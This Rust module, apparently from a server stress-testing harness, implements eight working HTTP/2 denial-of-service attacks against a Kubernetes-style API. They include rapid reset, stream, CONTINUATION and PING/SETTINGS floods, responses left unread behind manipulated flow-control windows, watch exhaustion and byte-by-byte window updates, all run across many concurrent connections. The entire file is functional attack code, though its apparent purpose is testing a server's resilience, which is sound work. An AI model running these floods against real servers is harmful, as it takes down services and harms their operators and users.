//! Attacks with frames.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::time::sleep;
use tokio_util::task::AbortOnDropHandle;

use crate::attacker::{Attacker, drain};
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, get, open,
    small_header,
};

const PODS: &str = "/apis/custom.example.com/v1/pods";
/// Each changes what the server may send: `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: [u8; 2] = [0, 4];
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const WHOLE: u8 = END_STREAM | END_HEADERS;

/// Requests that are taken back at once, by thousands.
pub(super) async fn rapid_reset(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let request = get("/apis", None);
        let pair = |n: u32| [frame(HEADERS, WHOLE, n, &request), frame(RST_STREAM, 0, n, &CANCEL)].concat();
        let flood: Vec<u8> = (0..5000).flat_map(|n| pair(2 * n + 1)).collect();
        loop {
            let mut stream = open(&attacker, &[]).await?;
            // It is cut off on the way.
            let _ = stream.write_all(&flood).await;
            drain(&mut stream).await;
            (0..5000).for_each(|_| attacker.did());
        }
    };
    attacker.many(4, work).await;
}

/// More streams than there are, on many connections, of callers who are nobody.
pub(super) async fn stream_flood(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let request = get("/apis", None);
        let flood: Vec<u8> = (0..1000).flat_map(|n| frame(HEADERS, WHOLE, 2 * n + 1, &request)).collect();
        loop {
            let mut stream = open(&attacker, &[]).await?;
            let _ = stream.write_all(&flood).await;
            (0..1000).for_each(|_| attacker.did());
            drain(&mut stream).await;
        }
    };
    attacker.many(16, work).await;
}

/// A head that goes on for ever, in frames of a few bytes.
pub(super) async fn continuation_flood(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let piece = frame(CONTINUATION, 0, 1, &small_header());
        let pieces = piece.repeat(100);
        loop {
            let mut stream = open(&attacker, &[]).await?;
            stream.write_all(&frame(HEADERS, END_STREAM, 1, &get("/apis", None))).await?;
            while stream.write_all(&pieces).await.is_ok() && stream.flush().await.is_ok() {
                (0..100).for_each(|_| attacker.did());
            }
        }
    };
    attacker.many(16, work).await;
}

/// Frames that want an answer, as fast as they are taken; every other attacker reads the answers.
pub(super) async fn ping_and_settings_flood(attacker: Attacker) {
    let work = |attacker: Attacker, number: usize| async move {
        let flood = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat().repeat(50);
        let (mut read, mut write) = split(open(&attacker, &[]).await?);
        let _reading = AbortOnDropHandle::new(tokio::spawn(async move {
            if number.is_multiple_of(2) {
                drain(&mut read).await;
            } else {
                std::future::pending::<()>().await;
            }
        }));
        while write.write_all(&flood).await.is_ok() && write.flush().await.is_ok() {
            (0..100).for_each(|_| attacker.did());
        }
        Ok(())
    };
    attacker.many(4, work).await;
}

/// Long answers that are asked for, and then not read: lists and documents.
pub(super) async fn unread_answers(attacker: Attacker) {
    let work = |attacker: Attacker, number: usize| async move {
        // Windows of two gigabytes: what is sent fills the sockets.
        let settings = [&WINDOW[..], &[0x7f, 0xff, 0xff, 0xff]].concat();
        let mut stream = open(&attacker, &settings).await?;
        stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes())).await?;
        let path = if number.is_multiple_of(2) { PODS } else { "/openapi/v2" };
        let request = get(path, Some(&attacker.viewer));
        for n in 0..20 {
            stream.write_all(&frame(HEADERS, WHOLE, 2 * n + 1, &request)).await?;
            attacker.did();
        }
        stream.flush().await?;
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(20, work).await;
}

/// Short answers by thousands, each of which fits into what the protocol holds back, and of which nothing is
/// taken.
pub(super) async fn unread_short_answers(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let settings = [&WINDOW[..], &[0, 0, 0, 1]].concat();
        let request = get(&format!("{PODS}?limit=50&pretty=true"), Some(&attacker.viewer));
        let mut stream = open(&attacker, &settings).await?;
        for n in 0..250 {
            stream.write_all(&frame(HEADERS, WHOLE, 2 * n + 1, &request)).await?;
            attacker.did();
        }
        stream.flush().await?;
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(40, work).await;
}

/// More watches than there are places for, of somebody who reads nothing.
pub(super) async fn watches(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let mut stream = open(&attacker, &[]).await?;
        let request = get(&format!("{PODS}?watch=1"), Some(&attacker.viewer));
        for n in 0..150 {
            stream.write_all(&frame(HEADERS, WHOLE, 2 * n + 1, &request)).await?;
            attacker.did();
        }
        stream.flush().await?;
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(10, work).await;
}

/// Lists that are read byte by byte.
pub(super) async fn tiny_windows(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let settings = [&WINDOW[..], &[0, 0, 0, 1]].concat();
        let (mut read, mut write) = split(open(&attacker, &settings).await?);
        let request = get(PODS, Some(&attacker.viewer));
        for n in 0..4 {
            write.write_all(&frame(HEADERS, WHOLE, 2 * n + 1, &request)).await?;
        }
        let reading = async move { read.read_to_end(&mut Vec::new()).await };
        let reading = AbortOnDropHandle::new(tokio::spawn(reading));
        loop {
            for n in 0..4 {
                write.write_all(&frame(WINDOW_UPDATE, 0, 2 * n + 1, &1_u32.to_be_bytes())).await?;
            }
            write.flush().await?;
            attacker.did();
            sleep(Duration::from_millis(10)).await;
            if reading.is_finished() {
                return Ok(());
            }
        }
    };
    attacker.many(32, work).await;
}
